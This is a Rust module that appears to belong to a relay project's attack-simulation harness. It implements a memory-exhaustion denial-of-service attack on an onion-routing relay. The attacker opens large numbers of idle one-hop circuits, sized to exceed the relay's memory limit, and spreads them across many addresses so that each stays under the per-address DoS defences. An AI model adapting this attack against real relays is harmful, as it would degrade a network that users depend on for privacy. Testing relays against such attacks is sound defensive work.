//! Idle circuits of one hop, over the attacker's own links. Each costs the attacker a single cell, and the relay memory for as long
//! as the link is open.

use super::attacker::{Attacker, LineId};
use super::{Attack, AttackTarget, CircuitAt};
use onion::cell::{BODY_LEN, Command};
use onion::cell_model::{CellModel, Handshake, Tor};
use std::collections::BTreeMap;

/// The bytes that our relay counts for an idle circuit. Circuits may use half of its memory limit.
const CIRCUIT_BYTES: u64 = 3 * 514;

/// The bytes of a cell on the wire, with its share of a TLS record.
const CELL_BYTES: u64 = 520;

/// Maximum number of circuits of an attack. C tor uses 16 KB for each.
const CIRCUITS_MAX: u64 = 200_000;

/// New links in a turn of some milliseconds.
const AT_ONCE: usize = 20;

/// The number of idle circuits that exceed a relay's memory limit by a quarter.
fn circuits_for(memory_mib: u32) -> u64 {
    let fill = (u64::from(memory_mib) << 20) / 2 / CIRCUIT_BYTES;
    (fill + fill / 4).min(CIRCUITS_MAX)
}

/// The bytes that the attacker must send to fill the relay.
pub(super) fn bytes_for(memory_mib: u32) -> u64 {
    circuits_for(memory_mib) * CELL_BYTES
}

/// Opens circuits and leaves them idle. Each circuit that the relay destroys or refuses is replaced.
pub(super) struct Idle {
    command: Command,
    body: Vec<u8>,
    /// Links, each from a separate address, and circuits on each of them.
    links: usize,
    circuits_per_link: u64,
    open: BTreeMap<LineId, u64>,
}

impl Idle {
    /// Circuits by CREATE_FAST over 40 links, each below the limits of DoS defences on an address.
    pub(super) fn fast(target: &AttackTarget) -> Self {
        Self::new(target, &<Tor as CellModel>::Handshake::fast([9; 20]), 40)
    }

    /// Circuits by CREATE2 with ntor, as relays and most clients open them.
    pub(super) fn create2(target: &AttackTarget) -> Self {
        Self::new(target, &<Tor as CellModel>::Handshake::ntor(target.relay(), [9; 32]), 40)
    }

    /// Circuits from 2,000 addresses, each with about as few as an honest client.
    pub(super) fn thin(target: &AttackTarget) -> Self {
        Self::new(target, &<Tor as CellModel>::Handshake::fast([9; 20]), 2_000)
    }

    fn new(target: &AttackTarget, handshake: &<Tor as CellModel>::Handshake, links: usize) -> Self {
        let (command, body) = handshake.create_cell();
        let circuits_per_link = circuits_for(target.memory_mib()).div_ceil(links as u64);
        Self { command, body, links, circuits_per_link, open: BTreeMap::new() }
    }
}

impl Attack for Idle {
    fn act(&mut self, attacker: &mut Attacker) {
        let soon = self.open.len() + AT_ONCE;
        for line in attacker.keep(self.links.min(soon)) {
            let open = self.open.entry(line).or_default();
            while *open < self.circuits_per_link && attacker.can_send(line) {
                let circ_id = attacker.next_id(line);
                attacker.send(line, circ_id, self.command, &self.body);
                *open += 1;
            }
        }
    }

    fn handle_cell(
        &mut self,
        _attacker: &mut Attacker,
        CircuitAt { line, .. }: CircuitAt,
        command: Command,
        _body: &[u8; BODY_LEN],
    ) {
        if command == Command::DESTROY
            && let Some(open) = self.open.get_mut(&line)
        {
            *open = open.saturating_sub(1);
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.open.remove(&line);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn idle_circuits_exceed_every_memory_limit() {
        for memory_mib in [64, 256, 400] {
            let room = (u64::from(memory_mib) << 20) / 2 / CIRCUIT_BYTES;
            assert!(circuits_for(memory_mib) > room, "{memory_mib} MiB");
        }
        assert_eq!(circuits_for(8_192), CIRCUITS_MAX, "for the sake of the machine");
    }
}
